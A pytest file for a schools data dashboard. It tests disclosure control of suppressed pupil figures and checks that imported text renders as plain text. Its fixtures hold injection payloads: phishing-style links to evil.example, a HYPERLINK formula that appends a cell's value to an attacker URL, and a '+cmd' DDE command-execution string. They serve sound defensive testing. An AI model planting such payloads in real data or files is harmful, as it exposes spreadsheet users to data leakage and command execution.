"""Disclosure control, tried as an attacker would: no suppressed figure can be worked out from
what a viewer is shown, and nothing imported reaches the page or a download as live content.

Totals are taken from what the viewer is shown (their own suppressed counts, which the pages show
as roll x rate), never from the LA's figures.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path

import polars as pl
import pytest
import streamlit
import yaml
from streamlit.testing.v1 import AppTest

from oep.data import access, auth, plain, queries, records
from oep.domain import attendance, categories, send
from oep.data.config import Settings, load_settings
from oep.domain.areas import OLDHAM, VISIBLE
from oep.data.schema import ACADEMIC_YEAR, ALL_PUPILS, EHC_PLAN, SEN_SUPPORT
from oep.data.store import Store, copy_store, rebuilding
from oep.data.suppression import suppress_needs
from tests.conftest import DEMO_USERNAMES, DemoEnv, log_in, new_app

ROLES_BELOW_LA = tuple(u for u in DEMO_USERNAMES if u != "officer")
PROVISION_COUNTS = {SEN_SUPPORT: "sen_support", EHC_PLAN: "ehc_plan"}
NEEDS_KEYS = ["urn", "time_period", "sen_provision"]


def _viewer(env: DemoEnv, username: str) -> access.Viewer:
    found = auth.viewer_for(env.auth, username)
    assert found is not None
    return found


def _scope(env: DemoEnv, username: str) -> access.Scope:
    return queries.scope_for(Store(env.store), _viewer(env, username), load_settings())


def _shown_totals(store: Store, scope: access.Scope) -> pl.DataFrame:
    """Per school and year, the SEN support and EHC plan counts the viewer is shown, and their
    sum (the total of the "All pupils with SEN" view): null where either is ``c``."""
    counts = queries.school_indicators(
        store, scope, tuple(PROVISION_COUNTS.values()), time_identifiers=(ACADEMIC_YEAR,),
        pupil_groups=(ALL_PUPILS,)).pivot("measure", index=["urn", "name", "time_period"],
                                           values="value")
    return counts.with_columns((pl.col("sen_support") + pl.col("ehc_plan")).alias("all_sen"))


def _recoveries(shown: pl.DataFrame, min_count: int) -> pl.DataFrame:
    """Sets of sibling needs (``area``, ``time_period``, ``pupils`` or null, ``total``) whose
    hidden cells the total gives away: a single ``c``, or ``c`` cells that together stand for
    a small number of pupils."""
    return (
        shown.filter(pl.col("total").is_not_null())
        .group_by("area", "time_period", "provision")
        .agg(pl.col("pupils").is_null().sum().alias("hidden"),
             (pl.col("total").first() - pl.col("pupils").sum()).alias("recovered"))
        .filter((pl.col("hidden") == 1)
                | ((pl.col("hidden") > 1) & (pl.col("recovered") < min_count)))
    )


def _views_of_needs(store: Store, scope: access.Scope, urn: str, name: str,
                    totals: pl.DataFrame) -> Iterator[pl.DataFrame]:
    """Every primary-need breakdown the pages can draw for one school (each year, each of the
    three provision views), with the total the viewer is shown beside each need."""
    rows = queries.sen_needs(store, scope, urns=(urn,))
    published = queries.sen_needs_comparators(store)
    mine = totals.filter(pl.col("urn") == urn)
    for year in rows["time_period"].unique().to_list():
        for provision, column in ((send.ALL_SEN, "all_sen"), (SEN_SUPPORT, "sen_support"),
                                  (EHC_PLAN, "ehc_plan")):
            total = mine.filter(pl.col("time_period") == year)[column]
            shaped = send.needs(rows, published, la_code="353", time_period=year,
                                provision=provision, school_label=name)
            yield shaped.filter(pl.col("area") == name).select(
                "area", pl.lit(year).alias("time_period"), pl.lit(provision).alias("provision"),
                "pupils", pl.lit(total[0] if len(total) else None, dtype=pl.Float64)
                .alias("total"))


# --- 4. secondary suppression -----------------------------------------------------------------

def test_sibling_rule_hides_the_next_smallest_until_the_hidden_sum_is_not_small() -> None:
    needs = pl.DataFrame({
        "urn": ["1"] * 5 + ["2"] * 3,
        "time_period": [202425] * 8,
        "sen_provision": [SEN_SUPPORT] * 8,
        "primary_need": ["a", "b", "c", "d", "e", "a", "b", "c"],
        "pupils": [2.0, 0.0, 1.0, 40.0, 12.0, 5.0, 30.0, 0.0],
        "symbol": [None] * 8,
    }, schema_overrides={"symbol": pl.String})
    out = suppress_needs(needs, 10).sort("urn", "primary_need")
    # School 1: 2 and 1 are small (sum 3 < 10), so the next smallest (12) goes too; 0 and 40 stay.
    assert out.filter(pl.col("urn") == "1")["pupils"].to_list() == [None, 0.0, None, 40.0, None]
    # School 2: 5 is small and alone; 30 goes with it (0 hides nobody).
    assert out.filter(pl.col("urn") == "2")["pupils"].to_list() == [None, None, 0.0]
    assert out.filter(pl.col("pupils").is_null())["symbol"].unique().to_list() == ["c"]


# One viewer per set of schools seen below the LA: member staff and partners see the board's.
DISTINCT_VIEWS = ("board", "supporter", "head_nonmember")


@pytest.mark.parametrize("username", DISTINCT_VIEWS)
def test_no_suppressed_need_is_the_total_minus_its_siblings(demo_env: DemoEnv,
                                                            username: str) -> None:
    """The sweep of the issue: every visible school, year and provision view."""
    store, scope = Store(demo_env.store), _scope(demo_env, username)
    min_count = load_settings().suppression_min_count
    totals = _shown_totals(store, scope)
    schools = queries.visible_schools(store, scope)
    views = [view for urn, name in schools.select("urn", "name").iter_rows()
             for view in _views_of_needs(store, scope, urn, name, totals)]
    shown = pl.concat(views)
    assert shown["pupils"].is_null().any(), "the demo store should hold suppressed needs"
    recovered = _recoveries(shown, min_count)
    assert recovered.is_empty(), recovered


def _single_small_need(env: DemoEnv, scope: access.Scope) -> str:
    """A school the viewer may see whose latest needs, unsuppressed, hold exactly one small cell
    in a provision: the case the issue recovered."""
    store = Store(env.store)
    officer = queries.scope_for(store, _viewer(env, "officer"), load_settings())
    raw = queries.sen_needs(store, officer, urns=tuple(sorted(scope.urns)))
    latest = raw.filter(pl.col("time_period") == raw["time_period"].max())
    min_count = load_settings().suppression_min_count
    single = latest.group_by(NEEDS_KEYS).agg(
        ((pl.col("pupils") > 0) & (pl.col("pupils") < min_count)).sum().alias("small")
    ).filter(pl.col("small") == 1).sort("urn")
    return single["urn"][0] if single.height else sorted(scope.urns)[0]


def _needs_tables(at: AppTest, payloads: list[bytes]) -> list[pl.DataFrame]:
    """Every primary-need table on the page and in its downloads, as text."""
    tables = [pl.from_pandas(d.value.astype(str)) for d in at.dataframe
              if "Primary need" in d.value.columns]
    tables += [pl.read_csv(io.BytesIO(p), infer_schema=False) for p in payloads
               if p.startswith(b"Area,Year,Primary need")]
    return tables


def _as_needs(table: pl.DataFrame, names: dict[str, str], provision: str) -> pl.DataFrame:
    """A page's needs table as (urn, year, provision, pupils) of the schools in it."""
    return table.filter(pl.col("Area").is_in(list(names))).select(
        pl.col("Area").replace_strict(names).alias("urn"),
        pl.col("Year").str.slice(0, 4).cast(pl.Int32).alias("start"),
        pl.lit(provision).alias("provision"), "Primary need",
        pl.when(pl.col("Pupils") == "c").then(None).otherwise(pl.col("Pupils"))
        .str.replace_all(",", "").cast(pl.Float64).alias("pupils"),
    )


@pytest.mark.parametrize("username", ROLES_BELOW_LA)
def test_no_page_shows_a_need_that_the_total_gives_away(
        demo_env: DemoEnv, downloads: list[bytes], username: str) -> None:
    """Every page the viewer can open, with a school whose unprotected needs had a single ``c``:
    each need table (on the page and in its CSV) against the totals the viewer is shown."""
    store, scope = Store(demo_env.store), _scope(demo_env, username)
    min_count = load_settings().suppression_min_count
    urn = _single_small_need(demo_env, scope)
    names = {n: u for u, n in queries.visible_schools(store, scope).select(
        "urn", "name").iter_rows()}
    totals = _shown_totals(store, scope).select(
        "urn", (pl.col("time_period") // 100).cast(pl.Int32).alias("start"),
        pl.col("sen_support").alias(SEN_SUPPORT), pl.col("ehc_plan").alias(EHC_PLAN),
        pl.col("all_sen").alias(send.ALL_SEN)).unpivot(
        index=["urn", "start"], variable_name="provision", value_name="total")
    at = log_in(new_app(), username)
    at.query_params["urn"] = urn
    at.session_state["filter:school"] = urn
    seen: list[pl.DataFrame] = []
    for page in ("pages/overview.py", "pages/attendance.py", "pages/categories.py",
                 "pages/school_profile.py", "pages/send.py"):
        provisions = send.PROVISIONS if page == "pages/send.py" else (send.ALL_SEN,)
        for provision in provisions:
            downloads.clear()
            at.session_state["widget:send:provision"] = provision
            at.switch_page(page).run()
            assert not at.exception, (page, at.exception)
            seen += [_as_needs(t, names, provision) for t in _needs_tables(at, downloads)]
    # A table is both on the page and in its CSV, and some pages repeat: count each need once.
    shown = pl.concat(seen).unique().join(totals, on=["urn", "start", "provision"], how="left")
    assert shown.filter(pl.col("urn") == urn).height, "the chosen school's needs were shown"
    recovered = _recoveries(shown.rename({"urn": "area", "start": "time_period"}), min_count)
    assert recovered.is_empty(), recovered


# --- 5. category reasons from the viewer's own figures ----------------------------------------

@pytest.fixture()
def strict_settings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Settings:
    """The shipped settings with ``min_count`` raised to 25, as the issue tried."""
    shipped = Path(__file__).resolve().parents[2] / "data" / "settings.toml"
    text = shipped.read_text().replace("min_count = 3", "min_count = 25")
    assert "min_count = 25" in text
    path = tmp_path / "settings.toml"
    path.write_text(text)
    monkeypatch.setenv("OEP_SETTINGS", str(path))
    return load_settings(path)


def _pct(value: float) -> str:
    return f"{value:.1f}%"


def _quotes(text: str, figure: str) -> bool:
    """Whether ``text`` quotes ``figure`` as a figure of its own ("7.0%" is not in "17.0%")."""
    return re.search(rf"(?<![\d.]){re.escape(figure)}", text) is not None


def test_reasons_quote_no_figure_the_viewer_sees_as_c(demo_env: DemoEnv,
                                                      strict_settings: Settings) -> None:
    store = Store(demo_env.store)
    board, officer = _scope(demo_env, "board"), _scope(demo_env, "officer")
    measure = "persistent_absence"
    args = dict(time_identifiers=(ACADEMIC_YEAR,), pupil_groups=(ALL_PUPILS,))
    seen = queries.school_indicators(store, board, (measure,), **args)
    full = queries.school_indicators(store, officer, (measure,), **args)
    keys = ["urn", "time_period"]
    hidden = seen.filter(pl.col("symbol") == "c").select(keys).join(
        full.select(*keys, "value"), on=keys)
    assert hidden.height, "min_count 25 should hide some persistent absence figures"
    visible_texts = seen.filter(pl.col("value").is_not_null()).group_by("urn").agg(
        pl.col("value").round(1).alias("shown"))
    checked = 0
    for urn, rows in hidden.group_by("urn"):
        shown = visible_texts.filter(pl.col("urn") == urn[0])["shown"]
        shown_texts = {_pct(v) for v in (shown[0] if len(shown) else [])}
        la_text = categories.reasons(store, officer, strict_settings, urn[0], every_check=True)
        la_words = " ".join(la_text["evidence"].to_list())
        # The hidden figures the LA's reasons quote (the rules read the latest years only).
        secrets = {s for s in {_pct(v) for v in rows["value"].to_list()} - shown_texts
                   if _quotes(la_words, s)}
        if not secrets:
            continue
        board_text = categories.reasons(store, board, strict_settings, urn[0], every_check=True)
        board_words = " ".join(board_text.select(
            pl.concat_str(pl.all().cast(pl.String), separator=" ", ignore_nulls=True)
        ).to_series().to_list())
        assert not any(_quotes(board_words, s) for s in secrets), (urn, secrets, board_words)
        checked += 1
    assert checked, "the LA's reasons quote figures its viewers are shown as c"


def test_every_condition_table_and_csv_show_c_not_the_figure(
        demo_env: DemoEnv, app_env: Path, downloads: list[bytes],
        strict_settings: Settings) -> None:
    store = Store(demo_env.store)
    board, officer = _scope(demo_env, "board"), _scope(demo_env, "officer")
    args = dict(time_identifiers=(ACADEMIC_YEAR,), pupil_groups=(ALL_PUPILS,))
    latest = max(queries.academic_years(store))
    seen = queries.school_indicators(store, board, ("persistent_absence",), **args).filter(
        (pl.col("symbol") == "c") & (pl.col("time_period") == latest))
    urn = seen["urn"][0]
    real = queries.school_indicators(store, officer, ("persistent_absence",), urns=(urn,),
                                     **args).filter(pl.col("time_period") == latest)["value"][0]
    at = log_in(new_app(), "board")
    at.session_state["filter:categories_school"] = urn
    at.switch_page("pages/categories.py").run()
    assert not at.exception, at.exception
    checks = next(d.value for d in at.dataframe
                  if "Threshold" in d.value.columns and len(d.value) > 5)
    assert checks.to_csv(index=False).count(_pct(real)) == 0
    csvs = [p for p in downloads if b"Threshold" in p]
    assert csvs and all(_pct(real).encode() not in p for p in csvs)
    assert any("persistent absence" in str(e) and "c" in str(e)
               for e in checks["Figure and period"].to_list())


# --- 6, 7. imported text stays text: on the page, in charts, in downloads ---------------------

EVIL_NAME = 'Evil <a href="http://evil.example/x">Open report</a> Academy'
EVIL_TRUST = "[Trust portal](http://evil.example/t) ![logo](http://evil.example/i.png)"
EVIL_DISPLAY_NAME = "**Boss** [reset your password](http://evil.example/r)"
FORMULA_NAME = '=HYPERLINK("http://evil.example/"&B2,"Open report")'
# What a live link, image, tag or autolink looks like in Markdown (unescaped) or in plotly's
# HTML-like labels.
LIVE_MARKDOWN = re.compile(
    rb"(?<!\\)<a\s|(?<!\\)\]\(|(?<!\\)!\[|https?:\\?//|www\\?\.|(?<!\\)\*\*Boss")
LIVE_HTML = re.compile(rb"<a\s|<img", re.IGNORECASE)
# Elements whose text Streamlit shows as it is, never as Markdown.
PLAIN_ELEMENTS = {"dataframe", "selectbox", "multiselect", "text_input", "text_area",
                  "download_button"}


@pytest.fixture()
def evil_env(demo_files: DemoEnv, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> DemoEnv:
    """The demo store with a register whose names and trust hold links, tags and a formula, and
    users whose display names hold Markdown."""
    store = tmp_path / "oep.duckdb"
    copy_store(demo_files.store, store)
    with rebuilding(store) as con:
        con.execute("UPDATE establishments SET name = ?, trust = ? WHERE urn = ?",
                    [EVIL_NAME, EVIL_TRUST, demo_files.orgs["head_member"]])
        con.execute("UPDATE establishments SET name = ? WHERE urn = ?",
                    [FORMULA_NAME, demo_files.orgs["senco_member"]])
    users = yaml.safe_load(demo_files.auth.read_text())
    for record in users["credentials"]["usernames"].values():
        record["name"] = EVIL_DISPLAY_NAME
    auth_file = tmp_path / "users.yaml"
    auth_file.write_text(yaml.safe_dump(users))
    activity = tmp_path / "activity.duckdb"
    for key, value in (("OEP_DB", store), ("OEP_AUTH_FILE", auth_file),
                       ("OEP_ACTIVITY_DB", activity)):
        monkeypatch.setenv(key, str(value))
    return DemoEnv(store, auth_file, activity, demo_files.orgs)


def _rendered(at: AppTest) -> tuple[list[bytes], list[bytes]]:
    """(texts Streamlit renders as Markdown, plotly figure specs) of the page's elements."""
    markdown, charts = [], []
    for node in at._tree:
        proto = getattr(node, "proto", None)
        if proto is None or node.type in PLAIN_ELEMENTS:
            continue
        if node.type == "plotly_chart":
            charts.append(proto.spec.encode())
        else:
            markdown.append(proto.SerializeToString())
    return markdown, charts


@pytest.mark.parametrize("username", ["officer", "head_member"])
def test_imported_text_is_plain_text_on_every_page(evil_env: DemoEnv, downloads: list[bytes],
                                                   username: str) -> None:
    urn = evil_env.orgs["head_member"]
    at = log_in(new_app(), username)
    assert not at.exception, at.exception
    at.query_params["urn"] = urn
    for key in ("filter:school", "filter:categories_school", "filter:disengagement_school"):
        at.session_state[key] = urn
    pages = ["pages/overview.py", "pages/attendance.py", "pages/send.py",
             "pages/categories.py", "pages/school_profile.py"]
    if username == "officer":
        pages += ["pages/disengagement.py", "pages/admin.py"]
    markdown_seen, charts_seen, csvs = [], [], []
    for page in pages:
        downloads.clear()
        at.switch_page(page).run()
        assert not at.exception, (page, at.exception)
        markdown, charts = _rendered(at)
        for text in markdown:
            assert not LIVE_MARKDOWN.search(text), (page, text[:400])
        for spec in charts:
            assert not LIVE_HTML.search(spec), (page, spec[:400])
        markdown_seen += markdown
        charts_seen += charts
        csvs += [d for d in downloads if not d.startswith(b"%PDF")]  # packs: test_boardpack
    # The names did reach the page, the charts and the downloads - as text.
    assert any('Evil \\<a href="http:\u2060//'.encode() in t for t in markdown_seen)
    assert any(b"\\[Trust portal\\]" in t for t in markdown_seen)
    assert any(b"\\*\\*Boss\\*\\*" in t for t in markdown_seen), "the sidebar name, escaped"
    assert any(b"Evil &lt;a href=" in spec for spec in charts_seen)
    assert any(b"Evil <a href=" in c for c in csvs)
    _assert_no_formula(csvs)


def _assert_no_formula(csvs: list[bytes]) -> None:
    """No cell of any CSV starts a formula, and negative numbers are still numbers."""
    cells = [cell for payload in csvs for row in csv.reader(io.StringIO(payload.decode()))
             for cell in row]
    formulas = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
                and not re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)", c)]
    assert not formulas, formulas[:5]
    assert any(c.startswith("'=HYPERLINK(") for c in cells), "the formula name was downloaded"
    assert any(re.fullmatch(r"-\d+(\.\d+)?", c) for c in cells), "negative numbers stay numbers"


def test_spreadsheet_safe_prefixes_text_formulas_only() -> None:
    frame = pl.DataFrame({
        "name": [FORMULA_NAME, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx",
                 "St Mary's", "-0.25", "+1.50", None],
        "gap": [-1.5, -2.0, 0.0, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0],
    })
    safe = plain.spreadsheet_safe(frame)
    assert safe["name"].to_list() == [
        "'" + FORMULA_NAME, "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx",
        "St Mary's", "-0.25", "+1.50", None]
    assert safe["gap"].to_list() == frame["gap"].to_list()
    assert plain.csv_bytes(frame).splitlines()[1].startswith(b"\"'=HYPERLINK(")


def test_markdown_escape_leaves_no_live_syntax_and_plain_words_alone() -> None:
    escaped = plain.markdown(f"{EVIL_TRUST} :red[x] $x$ www.evil.example\n# Heading\n1. item")
    assert not LIVE_MARKDOWN.search(escaped.encode())
    assert ":red[" not in escaped and "$x$" not in escaped and "www.evil" not in escaped
    assert [line[:2] for line in escaped.split("  \n")[1:]] == ["\\#", "1\\"]
    for words in ("7.1%", "Demo SENCO (member school)", "Level 2: since 08:09", "2024/25"):
        assert plain.markdown(words) == words
    assert plain.html(EVIL_NAME) == (
        'Evil &lt;a href="http://evil.example/x"&gt;Open report&lt;/a&gt; Academy')


# --- 9. one audited download path -------------------------------------------------------------

def _pages_of(username: str) -> list[str]:
    pages = ["pages/overview.py", "pages/attendance.py", "pages/send.py", "pages/categories.py",
             "pages/school_profile.py"]
    return pages + (["pages/disengagement.py", "pages/admin.py"] if username == "officer" else [])


@pytest.mark.parametrize("username", ["officer", "board", "head_nonmember"])
def test_downloads_exist_only_once_clicked_and_each_click_is_audited(
        demo_files: DemoEnv, app_env: Path, monkeypatch: pytest.MonkeyPatch,
        username: str) -> None:
    made: list[object] = []
    original = streamlit.download_button

    def spy(label, data=None, *args, **kwargs):  # noqa: ANN001, ANN202
        made.append(data)
        return original(label, data, *args, **kwargs)

    monkeypatch.setattr(streamlit, "download_button", spy)
    at = log_in(new_app(), username)
    for page in _pages_of(username):
        at.switch_page(page).run()
        assert not at.exception, (page, at.exception)
        buttons = [n.proto for n in at._tree if n.type == "download_button"]
        # No file (and no /media URL to fetch it) before the click: only a deferred id.
        assert all(b.url == "" and b.deferred_file_id for b in buttons), page
    assert made and all(callable(data) for data in made)
    events = records.read(app_env, "SELECT username, event FROM audit_log")
    assert "download" not in events["event"].to_list(), "nothing is audited before a click"
    clicked = made[-1]
    assert callable(clicked)
    assert b"\n" in clicked()
    events = records.read(app_env, "SELECT username, event, detail FROM audit_log")
    downloads = events.filter(pl.col("event") == "download")
    assert downloads.select("username", "event").rows() == [(username, "download")]


# --- 11. computed "schools you can see" figures beside published ones -------------------------

def test_a_computed_figure_one_school_short_of_the_published_one_is_c() -> None:
    published = pl.DataFrame({
        "area": [OLDHAM, OLDHAM], "phase": ["Special", "Total"],
        "time_period": [202425] * 2, "time_identifier": [ACADEMIC_YEAR] * 2,
        "pupil_group": [ALL_PUPILS] * 2, "measure": ["overall_absence"] * 2,
        "value": [11.0, 7.0], "symbol": [None, None]}, schema_overrides={"symbol": pl.String})
    schools = [("1", "Special", 12.0), ("2", "Special", 10.0), ("3", "Primary", 5.0),
               ("4", "Primary", 6.0)]
    visible = pl.DataFrame([
        {"urn": u, "name": u, "phase": p, "school_type": t, "time_period": 202425,
         "time_identifier": ACADEMIC_YEAR, "pupil_group": ALL_PUPILS, "measure": m, "value": v,
         "symbol": None}
        for u, p, value in schools
        for t in ["Community special school" if p == "Special" else "Community school"]
        for m, v in (("overall_absence", value), ("enrolments", 100.0))
    ], schema_overrides={"symbol": pl.String})
    # The register holds 3 special schools (one hidden) and the 2 primaries.
    register = pl.DataFrame({"phase": ["Not applicable", "Primary"],
                             "school_type": ["Community special school", "Community school"],
                             "schools": [3, 2]})
    out = attendance.by_phase(published, visible, areas=(OLDHAM,), measure="overall_absence",
                              register=register)
    mine = {c: (v, s) for c, v, s in out.filter(pl.col("area").str.starts_with(VISIBLE)).select(
        "category", "value", "symbol").iter_rows()}
    assert mine["Special"] == (None, "c")  # 11.0 x 3 - (12 + 10) would be the hidden school
    assert mine["Primary"] == (5.5, None)  # every primary school is counted
    assert mine["All phases"] == (None, "c")  # 5 schools in the register, 4 counted


def _covered(env: DemoEnv) -> dict[str, int]:
    store = Store(env.store)
    register = queries.published_coverage(store, _scope(env, "board"))
    return dict(attendance.schools_per_phase(register).iter_rows())


@pytest.mark.parametrize("username", ["board", "head_member", "supporter"])
def test_no_by_phase_figure_is_one_school_short_of_the_published_one(
        demo_env: DemoEnv, downloads: list[bytes], username: str) -> None:
    covered = _covered(demo_env)
    at = log_in(new_app(), username)
    at.switch_page("pages/attendance.py").run()
    assert not at.exception, at.exception
    table = pl.read_csv(io.BytesIO(next(p for p in downloads if p.startswith(b"Area,Phase,Note"))),
                        infer_schema=False)
    computed = table.filter(pl.col("Area").str.starts_with(VISIBLE)).with_columns(
        pl.col("Note").str.extract(r"^(\d+) schools counted").cast(pl.Int64).alias("counted"))
    assert computed.height
    shown = computed.filter(pl.col("Figure") != "c")
    short = [(phase, n) for phase, n in shown.select("Phase", "counted").iter_rows()
             if covered[phase] - n == 1]
    assert not short, short
    # The demo's members leave out exactly one special school: that figure is c.
    assert "Special" in computed.filter(pl.col("Figure") == "c")["Phase"].to_list(), computed


def test_the_la_sees_computed_figures_unsuppressed(demo_env: DemoEnv) -> None:
    store = Store(demo_env.store)
    assert queries.published_coverage(store, _scope(demo_env, "officer")).is_empty()
    assert queries.published_coverage(store, _scope(demo_env, "board"))["schools"].sum() == len(
        queries.visible_schools(store, _scope(demo_env, "officer")))
